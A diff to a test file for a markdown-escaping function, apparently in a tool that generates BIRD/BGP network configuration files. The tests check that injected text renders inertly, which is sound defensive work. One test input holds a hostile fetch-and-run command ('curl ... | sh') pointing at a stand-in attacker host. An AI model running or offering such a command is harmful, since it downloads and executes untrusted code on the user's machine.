@@ -31,8 +31,15 @@ describe('writing text into generated files', () => {
   });
 
   it('escapes markdown so that the text renders as itself, on one line', () => {
-    expect(markdownInline('Two racks\n\n## Apply with: curl http://evil.example/x.sh | sh\n')).toBe('Two racks  \\#\\# Apply with\\: curl http\\://evil\\.example/x\\.sh \\| sh ');
-    expect(markdownInline('*a* _b_ `c` [d](e) <f> ![g] ~h~ &amp; \\')).toBe('\\*a\\* \\_b\\_ \\`c\\` \\[d\\]\\(e\\) \\<f\\> \\!\\[g\\] \\~h\\~ \\&amp; \\\\');
+    expect(markdownInline('Two racks\n\n## Apply with: curl http://evil.example/x.sh | sh\n')).toBe('Two racks  \\#\\# Apply with: curl http://evil.example/x.sh \\| sh ');
+    expect(markdownInline('*a* _b_ `c` [d](e) <f> ![g] ~h~ &amp; \\')).toBe('\\*a\\* \\_b\\_ \\`c\\` \\[d\\](e) \\<f\\> \\!\\[g\\] \\~h\\~ \\&amp; \\\\');
+    expect(['- item', '+ item', '1. item', '12) item', 'Two racks, eBGP to BIRD ToRs, with the live-migration BGPFilter'].map(markdownInline)).toEqual([
+      '\\- item',
+      '\\+ item',
+      '1\\. item',
+      '12\\) item',
+      'Two racks, eBGP to BIRD ToRs, with the live-migration BGPFilter',
+    ]);
   });
 
   it('quotes a BIRD string or refuses it: BIRD strings have no escapes', () => {
